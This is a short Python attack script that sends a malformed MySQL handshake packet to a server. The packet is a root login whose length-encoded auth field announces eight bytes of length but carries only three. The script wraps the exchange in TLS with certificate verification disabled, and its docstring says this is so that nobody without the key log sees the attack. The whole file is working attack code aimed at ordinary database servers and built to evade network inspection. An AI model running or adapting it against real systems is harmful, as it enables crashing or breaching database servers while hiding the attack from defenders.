"""The attack of attack.py inside TLS: nobody without the key log sees it.

usage: attack_tls.py HOST SOURCE KEYLOG
"""
import socket
import ssl
import struct
import sys

PROTOCOL_41, SSL, SECURE, PLUGIN_AUTH, LENENC = 0x200, 0x800, 0x8000, 0x80000, 0x200000


def main(host, source, keylog):
    s = socket.create_connection((host, 3306), timeout=5, source_address=(source, 0))
    head = s.recv(4096)
    assert head[4] == 10
    fixed = struct.pack("<IIB23x", 1 | PROTOCOL_41 | SSL | SECURE | PLUGIN_AUTH | LENENC, 0x1000000, 45)
    s.sendall(len(fixed).to_bytes(3, "little") + b"\1" + fixed)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode, context.keylog_filename = False, ssl.CERT_NONE, keylog
    s = context.wrap_socket(s)
    body = fixed + b"root\0" + b"\xfe" + b"\xff\xff\xff"  # 0xfe announces eight bytes of length; three follow
    s.sendall(len(body).to_bytes(3, "little") + b"\2" + body)
    try:
        print("answer", s.recv(4096))
        s.recv(1)
    except OSError as end:
        print(end)
    s.close()


main(*sys.argv[1:])
